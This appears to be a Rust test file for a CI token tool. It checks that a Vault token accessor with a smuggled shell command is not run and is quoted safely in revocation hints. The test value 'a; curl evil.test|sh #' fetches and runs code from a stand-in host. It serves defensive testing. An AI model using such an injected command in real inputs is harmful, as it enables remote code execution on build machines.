//! In a command that the user should run.

use std::fs;
use std::sync::Arc;

use sandbox::Sandbox;
use sandbox::server::{Answer, Request, Response, Server, Service};
use serde_json::json;

use crate::support::{expect, oidc_exchange};

/// The accessor of a token that the server issues and does not revoke.
struct Naming(&'static str);

impl Service for Naming {
    fn answer<'a>(&'a self, request: &'a Request) -> Answer<'a> {
        let auth = json!({ "auth": { "client_token": "hvs.CAESIJq7xLhPtM1wZk3Vb9nYtRc2Xd8s", "accessor": self.0 } });
        let refusal = json!({ "errors": ["1 error occurred:\n\t* permission denied\n\n"] });
        let login = request.path.ends_with("/login");
        let answer = if login { Response::json(200, &auth) } else { Response::json(403, &refusal) };
        Box::pin(async { answer })
    }

    fn throttled(&self) -> Response {
        Response::html(429)
    }

    fn unavailable(&self) -> Response {
        Response::html(503)
    }
}

const EVIL: &str = "a; curl evil.test|sh #";

#[test]
fn a_name_that_a_shell_would_run_is_not_kept() {
    let sandbox = Sandbox::start().unwrap();
    let server = Server::start(None, |_| Arc::new(Naming(EVIL))).unwrap();
    let job = |arguments: &[&str]| oidc_exchange(arguments).job(&sandbox).env("SEMAPHORE_JOB_ID", "job-1");
    let output = job(&["vault", "--role", "ci", "--export-token"]).env("VAULT_ADDR", server.url()).hands_over().run();
    output.exits(0);
    let output = job(&["clean"]).within(output.scratch).word(&server.url().replace("http://", ""), "HOST").run();
    output.exits(4).stderr_is(expect![[r#"
        error: Vault refused to revoke the client token
          said       403 1 error occurred: * permission denied
          asked for  the end of the client token at http://HOST

        hint: Vault's default policy allows a token to revoke itself: check token_no_default_policy on the role
    "#]]);
}

/// A manifest is a file, and its writer can write anything into it.
#[test]
fn a_name_in_the_manifest_is_one_word() {
    let sandbox = Sandbox::start().unwrap();
    let server = Server::start(None, |_| Arc::new(Naming("accessor"))).unwrap();
    let job = |arguments: &[&str]| oidc_exchange(arguments).job(&sandbox).env("SEMAPHORE_JOB_ID", "job-1");
    let output = job(&["vault", "--role", "ci", "--export-token"]).env("VAULT_ADDR", server.url()).hands_over().run();
    output.exits(0);
    let manifest = output.scratch.files().into_iter().find(|file| file.ends_with("manifest")).unwrap();
    let text = fs::read_to_string(&manifest).unwrap();
    assert!(text.contains("\"accessor\""), "{text}");
    fs::write(&manifest, text.replace(":\"accessor\"", &format!(":\"{EVIL}\""))).unwrap();
    let output = job(&["clean"]).within(output.scratch).word(&server.url().replace("http://", ""), "HOST").run();
    output.exits(4).stderr_is(expect![[r#"
        error: Vault refused to revoke the client token
          said       403 1 error occurred: * permission denied
          asked for  the end of accessor a; curl evil.test|sh # at http://HOST

        hint: an administrator can revoke it now: vault token revoke -accessor 'a; curl evil.test|sh #'
        hint: Vault's default policy allows a token to revoke itself: check token_no_default_policy on the role
    "#]]);
}
